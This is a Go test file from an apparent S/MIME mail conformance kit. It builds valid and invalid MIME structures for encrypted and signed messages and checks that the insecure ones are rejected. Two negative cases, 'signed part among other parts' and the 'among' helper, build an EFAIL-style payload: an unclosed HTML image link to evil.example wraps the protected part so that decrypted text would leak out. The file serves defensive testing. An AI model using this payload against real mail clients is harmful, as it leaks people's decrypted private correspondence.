package directkit

import (
	"bytes"
	"crypto/x509"
	"strings"
)

// structure are the cases of section 4 about MIME.
func (k *Kit) structure() {
	const row = "4 forms"
	const plain, unsigned, malformed = "not_encrypted", "not_signed", "malformed"
	form := func(name string, change func(*Mail)) { k.good(name, row, k.changed(name, change)) }
	outer := func(name, typ string) { form(name, func(m *Mail) { m.OuterType = typ }) }
	multipart := func(name string, p Multipart) { form(name, func(m *Mail) { m.Multipart = p }) }

	form("not wrapped", func(m *Mail) { m.NoWrap = true })
	form("not wrapped, opaque", func(m *Mail) { m.NoWrap, m.Sign.Opaque = true, true })
	form("headers signed in place", func(m *Mail) {
		m.NoWrap, m.Inner = true, "From: "+m.From+"\r\nTo: "+m.To+"\r\nMessage-ID: "+m.ID+"\r\nContent-Type: text/plain\r\n\r\nwords\r\n"
	})
	form("wrapper in capitals", func(m *Mail) { m.WrapHeader = "CONTENT-TYPE: MESSAGE/RFC822\r\n" })
	form("wrapper with a transfer encoding", func(m *Mail) {
		m.WrapHeader = "Content-Type: message/rfc822; name=\"forwarded.eml\"\r\nContent-Disposition: inline\r\nContent-Transfer-Encoding: 7bit\r\n"
	})
	form("wrapper in base64", func(m *Mail) {
		inner := m.header() + "Content-Type: text/plain\r\n\r\nwords\r\n"
		m.NoWrap, m.Inner = true, "Content-Type: message/rfc822\r\nContent-Transfer-Encoding: base64\r\n\r\n"+Base64([]byte(inner), 76, "\r\n")
	})
	form("8-bit text inside", func(m *Mail) {
		m.Body = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\nGrüße, 検査\r\n"
	})
	form("latin-1 in quoted-printable", func(m *Mail) {
		m.Body = "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: quoted-printable\r\n\r\nGr=FC=DFe =\r\nvon hier\r\n"
	})
	form("unknown charset", func(m *Mail) { m.Body = "Content-Type: text/plain; charset=x-nobody\r\n\r\nwords\r\n" })
	form("unknown transfer encoding inside", func(m *Mail) {
		m.Body = "Content-Type: text/plain\r\nContent-Transfer-Encoding: x-nobody\r\n\r\nwords\r\n"
	})
	form("no content type inside", func(m *Mail) { m.Body = "\r\nwords\r\n" })
	form("empty body inside", func(m *Mail) { m.Body = "Content-Type: text/plain\r\n\r\n" })
	form("bare LF inside", func(m *Mail) { m.Body = "Content-Type: text/plain\r\n\r\none\ntwo\nthree\r\n" })
	form("nested multipart inside", func(m *Mail) {
		m.Body = "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\n\r\nwords\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>words</p>\r\n--b--\r\n\r\n--a--\r\n"
	})
	form("multipart inside without its end", func(m *Mail) { m.Body = "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\n\r\nwords\r\n" })
	form("message inside the message", func(m *Mail) {
		m.Body = "Content-Type: multipart/mixed; boundary=a\r\n\r\n--a\r\nContent-Type: message/rfc822\r\n\r\nFrom: <x@y.example>\r\nSubject: x\r\n\r\nwords\r\n--a--\r\n"
	})
	form("LF line ends signed", func(m *Mail) {
		m.NoWrap, m.Inner = true, "Content-Type: message/rfc822\n\n"+strings.ReplaceAll(m.header()+"Content-Type: text/plain\r\n\r\nwords\r\n", "\r\n", "\n")
	})
	form("CRLF signed, LF sent", func(m *Mail) {
		m.Signed = func(b []byte) []byte { return bytes.ReplaceAll(b, []byte("\r\n"), []byte("\n")) }
	})

	outer("x-pkcs7-mime", "Content-Type: application/x-pkcs7-mime; smime-type=enveloped-data; name=smime.p7m\r\n")
	outer("no smime-type", "Content-Type: application/pkcs7-mime; name=smime.p7m\r\n")
	outer("no name", "Content-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n")
	outer("no parameter at all", "Content-Type: application/pkcs7-mime\r\n")
	outer("another smime-type", "Content-Type: application/pkcs7-mime; smime-type=signed-data; name=smime.p7m\r\n")
	outer("content type in capitals", "CONTENT-TYPE: APPLICATION/PKCS7-MIME; SMIME-TYPE=ENVELOPED-DATA; NAME=SMIME.P7M\r\n")
	outer("content type folded", "Content-Type: application/pkcs7-mime;\r\n\tsmime-type=enveloped-data;\r\n  name=\"smime.p7m\"\r\n")
	outer("content type with a comment", "Content-Type: application/pkcs7-mime (S/MIME); smime-type=enveloped-data\r\n")
	outer("octet-stream called smime.p7m", "Content-Type: application/octet-stream; name=smime.p7m\r\nContent-Disposition: attachment; filename=smime.p7m\r\n")
	form("base64 in short lines", func(m *Mail) { m.OuterAs = "shortlines" })
	form("quoted-printable envelope", func(m *Mail) { m.OuterAs = "quoted-printable" })
	form("many headers outside", func(m *Mail) {
		m.Outer = "Received: from a\r\n by b; Mon, 23 Nov 2026 08:00:00 +0000\r\nDKIM-Signature: v=1;\r\n a=rsa-sha256\r\nX-Long: " + strings.Repeat("x", 900) + "\r\n" + m.header()
	})

	multipart("boundary not quoted", Multipart{Type: "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha-256; boundary=%s", Boundary: "plain-1"})
	multipart("boundary of odd characters", Multipart{Boundary: "=_'()+_,-./:=? x"})
	multipart("boundary not quoted but should be", Multipart{Type: "multipart/signed; boundary=%s; micalg=sha-256", Boundary: "----=_Part_1=2"})
	multipart("long boundary", Multipart{Boundary: strings.Repeat("b", 70)})
	multipart("boundary that begins like another", Multipart{Boundary: "b", Preamble: "--bb\r\n"})
	multipart("preamble and epilogue", Multipart{Preamble: "This is a signed message.\r\n\r\n", Epilogue: "\r\nThe end.\r\n"})
	multipart("micalg sha256", Multipart{Type: "multipart/signed; protocol=\"application/pkcs7-signature\"; micalg=sha256; boundary=\"%s\""})
	multipart("no micalg and no protocol", Multipart{Type: "multipart/signed; boundary=\"%s\""})
	multipart("protocol with an x", Multipart{Type: "multipart/signed; protocol=\"application/x-pkcs7-signature\"; micalg=sha-256; boundary=\"%s\"", Part: "Content-Type: application/x-pkcs7-signature; name=smime.p7s\r\n"})
	multipart("parameters in capitals", Multipart{Type: "MULTIPART/SIGNED; PROTOCOL=\"APPLICATION/PKCS7-SIGNATURE\"; MICALG=SHA-256; BOUNDARY=\"%s\""})
	multipart("parameters folded", Multipart{Type: "multipart/signed;\r\n\tboundary=\"%s\";\r\n\tprotocol=\"application/pkcs7-signature\";\r\n\tmicalg=sha-256"})
	multipart("closing delimiter missing", Multipart{NoEnd: true})
	multipart("signature part as octet-stream", Multipart{Part: "Content-Type: application/octet-stream; name=smime.p7s\r\n"})

	bad := func(name, reason string, change func(*Mail)) { k.bad(name, row, reason, k.changed(name, change)) }
	bad("not encrypted and not signed", plain, func(m *Mail) { m.Signers, m.Recipients, m.NoWrap = nil, nil, true })
	bad("signed and not encrypted", plain, func(m *Mail) { m.Recipients = nil })
	bad("opaque signed and not encrypted", "", func(m *Mail) { m.Recipients, m.Sign.Opaque = nil, true })
	bad("encrypted and not signed", unsigned, func(m *Mail) { m.Signers = nil })
	bad("encrypted and not signed, not wrapped", unsigned, func(m *Mail) { m.Signers, m.NoWrap = nil, true })
	bad("signature outside of the envelope", plain, func(m *Mail) {
		inside := *m
		inside.Signers, inside.Outer = nil, "X: y\r\n"
		m.NoWrap, m.Inner, m.Recipients = true, string(inside.Make(k.t)), nil
	})
	bad("triple wrapped", plain, func(m *Mail) {
		inside := *m
		inside.Outer = "X: y\r\n"
		m.NoWrap, m.Inner, m.Recipients = true, string(inside.Make(k.t)), nil
	})
	bad("encrypted twice", unsigned, func(m *Mail) {
		inside := *m
		inside.Outer = "X: y\r\n"
		m.NoWrap, m.Inner, m.Signers = true, string(inside.Make(k.t)), nil
	})
	bad("envelope among other parts", plain, func(m *Mail) { m.OuterChange = among })
	bad("signed part among other parts", unsigned, func(m *Mail) {
		m.Signed = func(b []byte) []byte {
			return []byte("Content-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--efail\r\n" + string(b) + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n")
		}
	})
	bad("three signed parts", malformed, func(m *Mail) {
		m.Signed = replace("\r\n--signed-boundary\r\nContent-Type: application/pkcs7", "\r\n--signed-boundary\r\n\r\nx\r\n--signed-boundary\r\nContent-Type: application/pkcs7")
	})
	bad("signed part without a signature", malformed, func(m *Mail) {
		m.Signers, m.NoWrap = nil, true
		m.Body = "Content-Type: multipart/signed; boundary=s\r\n\r\n--s\r\nContent-Type: text/plain\r\n\r\nwords\r\n--s--\r\n"
	})
	bad("no boundary", malformed, func(m *Mail) { m.Multipart.Type = "multipart/signed; micalg=sha-256" })
	bad("PGP", "", func(m *Mail) {
		m.Signers, m.NoWrap = nil, true
		m.Body = "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=s\r\n\r\n--s\r\n\r\nwords\r\n--s\r\nContent-Type: application/pgp-signature\r\n\r\n-----BEGIN PGP SIGNATURE-----\r\n--s--\r\n"
	})
	bad("envelope that is no base64", malformed, func(m *Mail) { m.OuterChange = replace("\r\n\r\nMI", "\r\n\r\n!!") })
	bad("envelope that is cut", "", func(m *Mail) { m.OuterChange = func(b []byte) []byte { return append(b[:len(b)/2/78*78], "\r\n"...) } })
	bad("empty envelope", "", func(m *Mail) {
		m.OuterChange = func(b []byte) []byte {
			head, _, _ := bytes.Cut(b, []byte("\r\n\r\n"))
			return append(head, "\r\n\r\n"...)
		}
	})
	bad("signer's own certificate used to encrypt", "cannot_be_decrypted", func(m *Mail) { m.Recipients = []*x509.Certificate{m.Signers[0].Certificate} })
}

// among puts an envelope between two parts in the clear, as an attacker does who wants a mail program to join them.
func among(b []byte) []byte {
	head, body, _ := strings.Cut(string(b), "\r\nContent-Type: ")
	return []byte(head + "\r\nContent-Type: multipart/mixed; boundary=efail\r\n\r\n--efail\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/\r\n--efail\r\nContent-Type: " +
		body + "\r\n--efail\r\nContent-Type: text/html\r\n\r\n\">\r\n--efail--\r\n")
}
